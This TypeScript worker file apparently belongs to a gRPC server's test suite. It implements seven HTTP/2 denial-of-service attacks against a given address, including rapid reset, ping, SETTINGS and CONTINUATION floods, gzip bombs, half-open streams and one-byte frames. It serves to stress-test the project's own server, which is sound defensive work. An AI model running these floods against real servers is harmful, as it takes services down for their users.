import { constants, type ClientHttp2Session } from 'node:http2';
import { connect as connectSocket } from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';
import { gzipSync } from 'node:zlib';
import { toFrame } from '../../src/rpc/grpc/frames.js';
import { connectRaw, openRaw } from './raw-call.js';

const SAY = '/echo.v1.EchoService/Say';

export type AttackName = keyof typeof ATTACKS;

/** What a stranger may do to a server for a while, each on connections of its own. */
export const ATTACKS = {
  'half-open streams': async (address: string, until: () => boolean) => {
    let opened = 0;
    await eachConnection(address, until, async (session) => {
      for (let i = 0; i < 250 && alive(session) && opened < 5000; i += 1, opened += 1) openRaw(session, SAY);
      await pause(100);
    });
  },
  'ping flood': (address: string, until: () => boolean) =>
    eachConnection(address, until, async (session) => {
      for (let i = 0; i < 200 && alive(session); i += 1) {
        for (let j = 0; j < 10 && alive(session); j += 1) session.ping(() => undefined);
        await pause(0);
      }
    }),
  'rapid reset': (address: string, until: () => boolean) =>
    eachConnection(address, until, async (session) => {
      for (let i = 0; i < 100 && alive(session) && !until(); i += 1) {
        for (let j = 0; j < 20 && alive(session); j += 1) openRaw(session, SAY).stream.close(constants.NGHTTP2_CANCEL);
        await pause(0);
      }
    }),
  'gzip bombs': (address: string, until: () => boolean) => {
    const bomb = toFrame(gzipSync(Buffer.alloc(64 * 1024 * 1024)));
    bomb[0] = 1;
    return eachConnection(address, until, async (session) => {
      for (let i = 0; i < 20 && alive(session) && !until(); i += 1) {
        const { stream, answer } = openRaw(session, SAY, { 'grpc-encoding': 'gzip' });
        stream.end(bomb);
        await answer;
      }
    });
  },
  'one-byte frames': (address: string, until: () => boolean) =>
    eachConnection(address, until, async (session) => {
      const frame = toFrame(Buffer.alloc(100_000));
      const { stream } = openRaw(session, SAY);
      for (let i = 0; i < frame.length && !stream.destroyed && !until(); i += 1) {
        stream.write(frame.subarray(i, i + 1));
        if (i % 20 === 0) await pause(0);
      }
    }),
  'settings flood': (address: string, until: () => boolean) =>
    eachSocket(address, until, Buffer.concat(Array.from({ length: 500 }, () => http2Frame(SETTINGS, 0)))),
  'continuation flood': (address: string, until: () => boolean) => {
    const headers = http2Frame(HEADERS, 1);
    const endless = Array.from({ length: 500 }, () => http2Frame(CONTINUATION, 1));
    return eachSocket(address, until, Buffer.concat(endless), headers);
  },
} as const;

const [HEADERS, SETTINGS, CONTINUATION] = [1, 4, 9] as const;
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';

/** A frame without a payload and without flags (https://www.rfc-editor.org/rfc/rfc9113#section-4.1): no block of headers ends. */
function http2Frame(type: number, streamId: number): Buffer {
  const frame = Buffer.alloc(9);
  frame[3] = type;
  frame[8] = streamId;
  return frame;
}

/** Sends the same frames over and over, as no HTTP/2 library would, until the server has enough. */
async function eachSocket(
  address: string,
  until: () => boolean,
  flood: Buffer,
  first: Buffer = Buffer.alloc(0),
): Promise<void> {
  const [host = '', port = ''] = address.split(':');
  while (!until()) {
    const socket = connectSocket(Number(port), host).on('error', () => undefined);
    // What the server says must be read, or it stops reading as well.
    socket.resume();
    socket.write(Buffer.concat([Buffer.from(PREFACE), http2Frame(SETTINGS, 0), first]));
    while (!socket.destroyed && !until()) {
      socket.write(flood);
      await pause(1);
    }
    socket.destroy();
    await pause(5);
  }
}

async function eachConnection(
  address: string,
  until: () => boolean,
  attack: (session: ClientHttp2Session) => Promise<void>,
): Promise<void> {
  while (!until()) {
    const session = connectRaw(address);
    await attack(session);
    session.destroy();
    await pause(5);
  }
}

function alive(session: ClientHttp2Session): boolean {
  return !session.destroyed && !session.closed;
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

if (parentPort !== null) {
  const { name, address, forMs } = workerData as { name: AttackName; address: string; forMs: number };
  const endMs = performance.now() + forMs;
  await ATTACKS[name](address, () => performance.now() > endMs);
  process.exit();
}
